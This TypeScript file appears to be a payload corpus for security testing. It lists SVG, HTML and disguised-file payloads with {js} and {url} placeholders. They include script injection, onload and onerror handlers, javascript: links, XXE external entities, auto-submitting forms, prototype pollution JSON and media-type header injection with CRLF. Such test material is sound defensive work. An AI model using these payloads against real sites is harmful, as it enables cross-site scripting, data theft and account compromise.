/** Whole files: drawings, pages and other documents with scripts and foreign addresses in them. */
import type { PayloadList } from './payloads.ts';

const SVG =
  'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="40"';

export const SVG_FILES: PayloadList = {
  'SVG drawings': [
    `<svg ${SVG}><script>{js};top.{js}</script></svg>`,
    `<svg ${SVG}><script href="{url}"/></svg>`,
    `<svg ${SVG} onload="{js};top.{js}"><rect width="9" height="9"/></svg>`,
    `<svg ${SVG}><image href="{url}" width="9" height="9"/></svg>`,
    `<svg ${SVG}><image xlink:href="x" onerror="{js}"/></svg>`,
    `<svg ${SVG}><use href="{url}#x"/></svg>`,
    `<svg ${SVG}><foreignObject width="90" height="40"><body xmlns="http://www.w3.org/1999/xhtml"><script>top.{js}</script><iframe src="{url}"/><img src="{url}"/></body></foreignObject></svg>`,
    `<svg ${SVG}><style>@import "{url}"; rect { fill: url({url}) }</style><rect width="9" height="9"/></svg>`,
    `<svg ${SVG}><style>@font-face { font-family: x; src: url({url}) } text { font-family: x }</style><text y="20">x</text></svg>`,
    `<svg ${SVG}><a href="javascript:{js}"><text y="20">press me</text></a></svg>`,
    `<svg ${SVG}><animate attributeName="x" dur="1s" onbegin="{js}"/></svg>`,
    `<svg ${SVG}><set attributeName="href" to="javascript:{js}"/></svg>`,
    `<svg ${SVG}><filter id="f"><feImage href="{url}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    `<svg ${SVG}><rect width="9" height="9" fill="url({url}#a)"/></svg>`,
    `<?xml version="1.0"?><?xml-stylesheet href="{url}"?><svg ${SVG}/>`,
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "{url}">]><svg ${SVG}><text y="20">&x;</text></svg>`,
    `<!DOCTYPE svg SYSTEM "{url}"><svg ${SVG}/>`,
    `<svg ${SVG}><meta http-equiv="refresh" content="0;url={url}" xmlns="http://www.w3.org/1999/xhtml"/></svg>`,
  ],
};

export const HTML_FILES: PayloadList = {
  'HTML pages': [
    '<!doctype html><script>{js};top.{js};parent.{js}</script>',
    '<!doctype html><body onload="{js};top.{js}">x',
    '<!doctype html><script src="{url}"></script>',
    '<!doctype html><img src="{url}"><link rel=stylesheet href="{url}">',
    '<!doctype html><meta http-equiv=refresh content="0;url={url}">',
    '<!doctype html><form action="{url}"><input name=q autofocus></form><script>document.forms[0].submit()</script>',
    '<!doctype html><script>top.location="{url}"</script>',
    '<!doctype html><script>new WebSocket("ws:{//url}")</script>',
    '<!doctype html><iframe srcdoc="<script>top.{js}</script>"></iframe>',
    '<!doctype html><base href="{url}"><a href=x>x</a><img src=x>',
    '</code></pre><script>{js}</script><img src=x onerror={js}>',
    '<html manifest="{url}"><body background="{url}">',
  ],
};

/** A file that says one thing of itself and is another: name, media type, content. */
export interface Disguise {
  readonly name: string;
  readonly mediaType: string;
  readonly text: string;
}

const PAGE = '<!doctype html><script>{js};top.{js}</script><img src="{url}">';
const PLAYLIST = '#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{url}\n#EXT-X-ENDLIST\n';

export const DISGUISES: readonly Disguise[] = [
  { name: 'page.svg', mediaType: 'image/svg+xml', text: PAGE },
  { name: 'page.png', mediaType: 'image/png', text: PAGE },
  { name: 'page.pdf', mediaType: 'application/pdf', text: PAGE },
  { name: 'page.txt', mediaType: 'text/plain', text: PAGE },
  { name: 'page.html', mediaType: 'text/html', text: PAGE },
  { name: 'page.xhtml', mediaType: 'application/xhtml+xml', text: PAGE },
  { name: 'page.xml', mediaType: 'text/xml', text: PAGE },
  { name: 'page.xsl', mediaType: 'application/xslt+xml', text: PAGE },
  { name: 'page.mp3', mediaType: 'audio/mpeg', text: PAGE },
  { name: 'page.mp4', mediaType: 'video/mp4', text: PAGE },
  { name: 'page.js', mediaType: 'text/javascript', text: '{js};top.{js}' },
  {
    name: 'page.json',
    mediaType: 'application/json',
    text: '{"__proto__":{"polluted":true},"x":"</pre>{js}"}',
  },
  { name: 'page.mhtml', mediaType: 'multipart/related', text: PAGE },
  { name: 'page.wasm', mediaType: 'application/wasm', text: PAGE },
  { name: 'list.m3u8', mediaType: 'audio/mpegurl', text: PLAYLIST },
  { name: 'film.m3u8', mediaType: 'video/mpegurl', text: PLAYLIST },
  { name: 'apple.m3u8', mediaType: 'video/vnd.apple.mpegurl', text: PLAYLIST },
  { name: 'film.mp4', mediaType: 'video/mp4', text: PLAYLIST },
  { name: 'sound.mp3', mediaType: 'audio/mpeg', text: `\uFEFF \n${PLAYLIST}` },
  { name: 'page.css', mediaType: 'text/css', text: '@import "{url}"; body { background: url({url}) }' },
  { name: 'type', mediaType: 'image/<script>{js}</script>', text: PAGE },
  { name: 'types', mediaType: 'text/html;x="><img src=x onerror={js}>', text: PAGE },
  { name: 'typed', mediaType: '"><img src=x onerror={js}>', text: PAGE },
  { name: 'line', mediaType: 'image/svg+xml\r\nX-Evil: {js}', text: PAGE },
  { name: 'case', mediaType: 'IMAGE/SVG+XML', text: PAGE },
  { name: 'pdf', mediaType: 'application/pdf; x=text/html', text: PAGE },
  { name: 'none', mediaType: '', text: PAGE },
];
